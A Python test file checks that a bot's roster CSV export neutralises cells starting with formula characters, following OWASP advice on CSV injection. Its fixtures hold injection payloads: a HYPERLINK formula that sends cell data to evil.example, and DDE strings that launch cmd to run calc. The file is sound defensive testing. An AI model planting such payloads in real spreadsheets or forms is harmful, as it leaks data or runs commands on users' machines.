"""The roster CSV opens in a spreadsheet as text: no cell runs as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from s4b_bot.core import Core
from s4b_bot.invocation import Actor, FormSubmission, FormValue
from s4b_bot.registration import roster
from storage.models import ProgrammeSession

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
JO = Actor("console", "local", "jo", "Jo", is_organizer=True)
HOSTILE = {
    "ada": ('=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+cmd|' /C calc'!A0"),
    "ben": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
}


async def test_names_and_organizations_that_look_like_formulas_are_neutralised(
    core: Core,
) -> None:
    async with core.db.transaction() as db:
        spring = await db.scalar(
            select(ProgrammeSession.id).where(ProgrammeSession.season == "Spring")
        )
    for user, (name, organization) in HOSTILE.items():
        values: dict[str, FormValue] = {
            "name": name,
            "about": "=1+1 is what I'd say",
            "organization": organization,
            "email": "",
            "sessions": (str(spring),),
            "consent": True,
        }
        outcome = await core.submit(
            FormSubmission(Actor("console", "local", user, user), "register", values)
        )
        assert not outcome.field_errors, outcome.field_errors
    outcome = await core.run_text(JO, "s4b-admin", "roster spring")
    assert outcome.reply is not None
    [attachment] = outcome.reply.attachments
    text = attachment.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for name, organization in HOSTILE.values():
        assert ["'" + name, "'" + organization] in [row[2:4] for row in rows]
    assert "'=1+1 is what I'd say" in cells
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_a_quote_and_the_rest_is_kept(start: str) -> None:
    assert roster.spreadsheet_safe(f"{start}A1", "Ada", 3, "") == [f"'{start}A1", "Ada", "3", ""]
